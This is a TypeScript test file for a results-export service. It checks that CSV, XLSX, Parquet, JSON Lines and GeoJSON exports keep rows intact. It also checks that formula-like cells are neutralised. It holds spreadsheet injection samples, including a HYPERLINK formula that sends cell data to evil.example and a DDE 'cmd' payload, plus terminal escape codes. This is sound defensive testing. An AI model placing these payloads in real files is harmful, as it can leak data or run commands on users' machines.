import { readdir, readFile, stat } from 'node:fs/promises'
import path from 'node:path'
import { DuckDBInstance } from '@duckdb/node-api'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { describeTable } from '../../src/google/bigquery/bigquery.ts'
import { exported } from '../../src/services/results/export.ts'
import type { FileFormat } from '../../src/services/results/formats.ts'
import { readRows, sameFailures, type RowChoice } from '../../src/services/results/read-rows.ts'
import { writeWholeFile } from '../../src/services/results/whole-file.ts'
import type { RunRows } from '../../src/services/runs/results.ts'
import { LocalTables } from './local-table.ts'
import { sheetCells, unzip } from './read-xlsx.ts'

const SCHEMA = [
  { name: 'unit_id', type: 'STRING' },
  { name: 'asset_id', type: 'STRING' },
  {
    name: 'location',
    type: 'RECORD',
    fields: [
      { name: 'latitude', type: 'FLOAT' },
      { name: 'longitude', type: 'FLOAT' },
    ],
  },
  { name: 'status', type: 'STRING' },
  { name: 'cause', type: 'STRING' },
  { name: 'error_message', type: 'STRING' },
  { name: 'notes', type: 'STRING' },
  { name: 'count', type: 'INTEGER' },
  { name: 'share', type: 'FLOAT' },
  { name: 'lit', type: 'BOOLEAN' },
  { name: 'seen_at', type: 'TIMESTAMP' },
  { name: 'day', type: 'DATE' },
  { name: 'price', type: 'NUMERIC' },
  { name: 'photo', type: 'BYTES' },
  { name: 'tags', type: 'STRING', mode: 'REPEATED' },
]

/** Texts that a spreadsheet, a terminal, a CSV reader or an XML reader could misread. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  'a,"b"\r\nc;d',
  '</t></is></c><c><f>1+1</f></c>&amp;<![CDATA[',
  '_x0041_ and \u0001\u001b[2J\u0000',
  'Straße 🛑 \u202eevil',
  'NULL',
  '',
]

const at = (index: number): string => `u${String(index).padStart(2, '0')}`

const ROWS = HOSTILE.map((notes, index) => ({
  unit_id: at(index),
  asset_id: at(index),
  location: index % 3 === 0 ? null : { latitude: 40 + index / 8, longitude: -105.5 - index },
  status: 'ok',
  notes,
  count: index === 1 ? '9007199254740993' : String(-index),
  share: index === 2 ? 'Infinity' : index / 8,
  lit: index % 2 === 0,
  seen_at: `2026-06-14T17:02:11.${index % 10}80125Z`,
  day: index === 4 ? '1899-12-31' : '2026-02-28',
  price: '-12.345678901',
  photo: 'AAEC/w==',
  tags: index === 0 ? [] : ['=1', `t${index}`],
}))

const FAILED = ['images/a.jpg', 'images/b.jpg', 'images/c.jpg'].map((image, index) => ({
  unit_id: `v${index}`,
  asset_id: `v${index}`,
  status: 'failed',
  cause: 'unreadable_image',
  error_message: `no readable image: ${image} does not exist`,
}))

let tables: LocalTables
let source: RunRows
let duck: Awaited<ReturnType<DuckDBInstance['connect']>>

beforeAll(async () => {
  tables = await LocalTables.start()
  // Rows come in no order.
  const table = await tables.table(SCHEMA, [...FAILED.toReversed(), ...ROWS.toReversed()])
  const [projectId = '', dataset = '', name = ''] = table.split('.')
  const { fields, rows: count } = (await describeTable({ projectId, dataset, table: name }))!
  source = { runId: '261130-00000001', table, from: table, fields, count, key: ['unit_id'], projectId, location: 'US' }
  duck = await (await DuckDBInstance.create(':memory:')).connect()
})

afterAll(() => tables.close())

/** Writes the chosen rows to a file. Returns its path. */
async function written(name: string, format: FileFormat, choice: RowChoice = {}): Promise<string> {
  const file = path.join(tables.folder, name)
  const isGeo = format === 'geojson' || format === 'geoparquet'
  const rows = await readRows(source, choice, isGeo ? ['location', 'unit_id'] : [])
  await writeWholeFile(file, exported(format, rows, { rawCells: false, bom: false }).pieces)
  return file
}

async function read(sql: string): Promise<Record<string, unknown>[]> {
  return (await duck.runAndReadAll(sql)).getRowObjectsJson()
}

async function ids(choice: RowChoice): Promise<unknown[]> {
  const { pages } = await readRows(source, choice)
  return (await Array.fromAsync(pages)).flat().map((row) => row['unit_id'])
}

const allIds = [...ROWS, ...FAILED].map((row) => row.unit_id)

describe('the rows of a run', () => {
  test('come by ID, sorted, filtered and limited', async () => {
    expect(await ids({})).toEqual(allIds)
    expect(await ids({ limit: 2 })).toEqual(['u00', 'u01'])
    expect(await ids({ failed: true })).toEqual(['v0', 'v1', 'v2'])
    expect(await ids({ where: "lit AND unit_id < 'u05'" })).toEqual(['u00', 'u02', 'u04'])
    expect(await ids({ where: "status = 'ok' OR TRUE", failed: true, limit: 1 })).toEqual(['v0'])
    // Rows without a value come last, in both directions.
    expect(await ids({ sort: 'lit', where: "unit_id > 'u08'" })).toEqual(['u09', 'u10', 'v0', 'v1', 'v2'])
    expect(await ids({ sort: 'LIT:desc,unit_id:desc', where: "unit_id > 'u08'" })).toEqual([
      'u10',
      'u09',
      'v2',
      'v1',
      'v0',
    ])
  })

  test('have the chosen columns in the given order', async () => {
    const { fields, pages, total } = await readRows(source, { columns: 'count, Unit_ID', limit: 2 })
    expect(fields.map(({ name }) => name)).toEqual(['count', 'unit_id'])
    expect(total).toBe(2)
    expect(await Array.fromAsync(pages)).toEqual([
      [
        { count: 0, unit_id: 'u00' },
        { count: '9007199254740993', unit_id: 'u01' },
      ],
    ])
  })

  test.each<[RowChoice, string, RegExp]>([
    [{ columns: 'asset_id,notez' }, 'INVALID_FLAG', /--columns: there is no column notez/],
    [{ columns: 'notes,NOTES' }, 'INVALID_FLAG', /names notes twice/],
    [{ columns: ' , ' }, 'INVALID_FLAG', /names no column/],
    [{ sort: 'location' }, 'INVALID_FLAG', /a column of structs has no order/],
    [{ sort: 'tags:desc' }, 'INVALID_FLAG', /a column of lists has no order/],
    [{ sort: 'nothing' }, 'INVALID_FLAG', /--sort: there is no column nothing/],
    [{ where: 'nothing = 1' }, 'INVALID_FILTER', /--where nothing = 1: /],
    [{ where: 'count' }, 'INVALID_FILTER', /--where count: /],
  ])('are refused for %o', async (choice, code, message) => {
    const refused = readRows(source, choice)
    await expect(refused).rejects.toMatchObject({ code, message: expect.stringMatching(message) })
  })

  test('name a column that the user may have meant', async () => {
    await expect(readRows(source, { columns: 'asset' })).rejects.toMatchObject({
      suggestions: ['--columns asset_id', expect.stringContaining('unit_id, asset_id, location')],
    })
  })

  test('that failed alike are one group', async () => {
    expect(await sameFailures(source, {}, 8)).toMatchObject([{ cause: 'unreadable_image', units: 3, unit_id: 'v0' }])
    expect(await sameFailures(source, { where: "unit_id = 'v2'" }, 8)).toMatchObject([{ units: 1, unit_id: 'v2' }])
  })
})

describe('a file of results, read by another program', () => {
  test('has the same rows as JSON Lines and as Parquet', async () => {
    const [jsonl, parquet] = [await written('rows.jsonl', 'jsonl'), await written('rows.parquet', 'parquet')]
    const lines = (await readFile(jsonl, 'utf8')).trim().split('\n')
    const expected = lines.map((line) => JSON.parse(line) as Record<string, unknown>)
    expect(expected.map((row) => row['notes'])).toEqual([...HOSTILE, null, null, null])
    const rows = await read(
      `SELECT * REPLACE (strftime(seen_at AT TIME ZONE 'UTC', '%Y-%m-%dT%H:%M:%S.%fZ') AS seen_at, to_base64(photo) AS photo) FROM '${parquet}'`,
    )
    const alike = (row: Record<string, unknown>): object => ({
      ...row,
      // DuckDB's JSON has 64-bit integers as text, and keeps every digit of a decimal.
      count: row['count'] === null ? null : String(row['count']),
      price: row['price'] === null ? null : Number(row['price']),
    })
    expect(rows.map(alike)).toEqual(expected.map(alike))
    const types = await read(`SELECT name, type, converted_type FROM parquet_schema('${parquet}')`)
    const typeOf = Object.fromEntries(types.map((row) => [row['name'], row['type']]))
    expect(typeOf).toMatchObject({ count: 'INT64', share: 'DOUBLE', lit: 'BOOLEAN', seen_at: 'INT64', day: 'INT32' })
    expect(await read(`SELECT count(*)::INT AS n FROM read_json('${jsonl}', format = 'newline_delimited')`)).toEqual([
      { n: allIds.length },
    ])
  })

  test('has the same rows as CSV, with formulas as text', async () => {
    const file = await written('rows.csv', 'csv')
    const rows = await read(`SELECT * FROM read_csv('${file}', all_varchar = true, strict_mode = true)`)
    expect(rows.map((row) => row['unit_id'])).toEqual(allIds)
    const cells = rows.slice(0, HOSTILE.length).map((row) => row['notes'] ?? '')
    expect(cells).toEqual(HOSTILE.map((text) => (/^[=+\-@\t]/.test(text) ? `'${text}` : text)))
    expect(rows[3]).toMatchObject({ count: '-3', share: '0.375', lit: 'false', price: '-12.345678901' })
  })

  test('as a spreadsheet has numbers as numbers, times as times, and no formula', async () => {
    const file = await written('rows.xlsx', 'xlsx')
    const archive = await readFile(file)
    expect([...unzip(archive).values()].join('')).not.toMatch(/<f[ >]/)
    const cells = sheetCells(archive)
    const column = (name: string): string =>
      [...cells].find(([ref, { value }]) => ref.endsWith('1') && value === name)![0].slice(0, -1)
    const cell = (name: string, row: number) => cells.get(`${column(name)}${row + 2}`)
    for (const [index, text] of HOSTILE.entries()) {
      const isFormula = /^[=+\-@\t]/.test(text)
      expect(cell('notes', index)).toEqual({ type: 'inlineStr', style: isFormula ? 4 : 0, value: text })
    }
    expect(cell('count', 3)).toEqual({ type: 'n', style: 0, value: '-3' })
    // A number that a cell cannot hold exactly, or is none, is text.
    expect(cell('count', 1)).toMatchObject({ type: 'inlineStr', value: '9007199254740993' })
    expect(cell('share', 2)).toMatchObject({ type: 'inlineStr', value: 'Infinity' })
    expect(cell('share', 3)).toMatchObject({ type: 'n', value: '0.375' })
    expect(cell('lit', 0)).toMatchObject({ type: 'b', value: '1' })
    // 46,081 days after 1899-12-30 (https://support.microsoft.com/office/date-function-e36c0c8c-4104-49da-ab83-82328b832349).
    expect(cell('day', 0)).toEqual({ type: 'n', style: 3, value: '46081' })
    expect(cell('day', 4)).toMatchObject({ type: 'inlineStr', value: '1899-12-31' })
    expect(Number(cell('seen_at', 0)!.value)).toBeCloseTo(46_187.709_850_5, 6)
    expect(cell('notes', HOSTILE.length)).toBeUndefined()
    expect(cell('cause', HOSTILE.length)?.value).toBe('unreadable_image')
  })

  test('as GeoJSON has a point, longitude first, for each row with a place', async () => {
    const file = await written('rows.geojson', 'geojson', { columns: 'notes' })
    const collection = JSON.parse(await readFile(file, 'utf8')) as {
      type: string
      features: { type: string; id: string; geometry: object | null; properties: object }[]
    }
    expect(collection.type).toBe('FeatureCollection')
    expect(collection.features.map(({ id }) => id)).toEqual(allIds)
    expect(collection.features[1]).toEqual({
      type: 'Feature',
      id: 'u01',
      geometry: { type: 'Point', coordinates: [-106.5, 40.125] },
      properties: { notes: HOSTILE[1] },
    })
    expect(collection.features[0]!.geometry).toBeNull()
  })

  test('as GeoParquet has the points, and says how they are written', async () => {
    const file = await written('rows.geoparquet', 'geoparquet', { columns: 'asset_id' })
    const [metadata] = await read(
      `SELECT decode(value) AS geo FROM parquet_kv_metadata('${file}') WHERE decode(key) = 'geo'`,
    )
    const located = ROWS.flatMap(({ location }) => (location ? [location] : []))
    const [west, south] = [located.at(-1)!.longitude, located[0]!.latitude]
    expect(JSON.parse(String(metadata!['geo']))).toEqual({
      version: '1.1.0',
      primary_column: 'geometry',
      columns: {
        geometry: {
          encoding: 'WKB',
          geometry_types: ['Point'],
          bbox: [west, south, located[0]!.longitude, located.at(-1)!.latitude],
        },
      },
    })
    // DuckDB reads the column as geometry because of that.
    const rows = await read(`SELECT asset_id, geometry::VARCHAR AS point FROM read_parquet('${file}')`)
    expect(rows.map((row) => row['point'])).toEqual([
      ...ROWS.map(({ location }) => (location ? `POINT (${location.longitude} ${location.latitude})` : null)),
      null,
      null,
      null,
    ])
  })

  test.each<FileFormat>(['csv', 'jsonl', 'parquet', 'geojson', 'geoparquet', 'xlsx'])(
    'as %s is valid without rows',
    async (format) => {
      const file = await written(`empty.${format}`, format, { where: 'FALSE' })
      const content = await readFile(file, 'utf8')
      expect(content === '').toBe(format === 'jsonl')
      if (format === 'csv') expect(content).toBe(`${SCHEMA.map(({ name }) => name).join(',')}\r\n`)
      if (format === 'geojson') expect(JSON.parse(content)).toEqual({ type: 'FeatureCollection', features: [] })
      if (format === 'xlsx') expect(sheetCells(await readFile(file)).size).toBe(SCHEMA.length)
      if (format.endsWith('parquet')) expect(await read(`FROM read_parquet('${file}')`)).toEqual([])
    },
  )

  test('leaves nothing beside it, also when it is interrupted', async () => {
    const cancel = new AbortController()
    const file = path.join(tables.folder, 'cut.parquet')
    const why = new Error('Ctrl-C')
    const rows = await readRows(source, {})
    const stopped = {
      ...rows,
      pages: (async function* () {
        yield* rows.pages
        cancel.abort(why)
        yield []
      })(),
    }
    const { pieces } = exported('parquet', stopped, { rawCells: false, bom: false })
    await expect(writeWholeFile(file, pieces, cancel.signal)).rejects.toBe(why)
    await expect(stat(file)).rejects.toMatchObject({ code: 'ENOENT' })
    expect((await readdir(tables.folder)).filter((name) => name.endsWith('.part'))).toEqual([])
  })
})
